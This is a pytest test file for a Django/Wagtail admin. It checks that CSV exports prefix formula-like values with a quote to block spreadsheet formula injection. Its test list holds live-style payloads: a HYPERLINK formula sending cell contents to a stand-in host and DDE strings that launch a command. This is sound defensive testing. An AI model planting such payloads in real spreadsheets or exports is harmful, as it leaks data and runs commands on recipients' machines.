"""CSV exports of the admin never hand a spreadsheet a formula (OWASP "CSV injection"): a
value beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a
leading single quote, so that the spreadsheet shows it as text."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail_modeladmin.views import IndexView as ModelAdminIndexView

from directory.demo import ensure_directory
from directory.factories import OrganisationFactory
from directory.vocabularies import ensure_vocabularies
from home.models import StandardPage
from portal.exports import spreadsheet_safe

pytestmark = pytest.mark.django_db

DANGEROUS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Klikka")',
    "+372 5555 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows(response):
    assert response.status_code == 200, response.get("Location")
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(content)))


@pytest.fixture
def editor(client, site_tree):
    client.force_login(get_user_model().objects.get(username="editor"))
    return client


@pytest.mark.parametrize("value", ["", "MTÜ Tavaline", "Ühing = sõprus", "5-10", 42, None])
def test_harmless_values_are_kept(value):
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_values_get_a_leading_quote(value):
    assert spreadsheet_safe(value) == "'" + value


def test_an_editor_exports_organisations_without_formulas(editor, site_tree):
    ensure_vocabularies()
    ensure_directory(site_tree["homes"])
    for number, name in enumerate(DANGEROUS):
        OrganisationFactory(registered_name=name, town=f"Linn {number}")
    OrganisationFactory(registered_name="MTÜ Tavaline", town="-Tallinn")

    exported = rows(editor.get("/admin/snippets/directory/organisation/", {"export": "csv"}))

    names = {row[0] for row in exported[1:]}
    assert {"'" + value for value in DANGEROUS} <= names
    assert "MTÜ Tavaline" in names
    plain = next(row for row in exported if row[0] == "MTÜ Tavaline")
    assert plain[4] == "'-Tallinn"


def test_wagtails_own_reports_are_exported_without_formulas(editor, site_tree):
    page = StandardPage(title="=1+2", slug="valem")
    site_tree["homes"]["et"].add_child(instance=page)
    page.save_revision(user=get_user_model().objects.get(username="editor")).publish()

    exported = rows(editor.get("/admin/reports/aging-pages/", {"export": "csv"}))

    titles = [row[0] for row in exported[1:]]
    assert "'=1+2" in titles
    assert "=1+2" not in titles


def test_modeladmin_and_every_other_admin_export_write_the_same_safe_rows():
    # wagtail-modeladmin's IndexView (subscribers, campaigns, consultations) and Wagtail's
    # reports, redirects and form submissions all write CSV through SpreadsheetExportMixin.
    assert issubclass(ModelAdminIndexView, SpreadsheetExportMixin)
    view = ModelAdminIndexView.__new__(ModelAdminIndexView)
    view.list_export = ["email", "note"]
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=view.list_export)

    view.write_csv_row(writer, {"email": "a@b.example", "note": "=1+2"})

    assert buffer.getvalue().strip() == "a@b.example,'=1+2"
